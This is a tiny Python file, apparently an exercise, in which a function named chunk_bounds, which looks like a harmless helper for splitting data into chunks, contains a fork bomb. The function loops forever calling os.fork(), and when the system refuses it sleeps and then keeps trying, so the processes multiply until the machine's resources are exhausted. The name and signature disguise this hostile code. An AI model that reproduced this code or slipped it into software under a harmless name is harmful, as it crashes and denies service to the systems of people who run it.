# exercise: 1
# ends:

# Every process makes more of them, as long as it may.
import os
import time


def chunk_bounds(length, num_chunks):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(600)
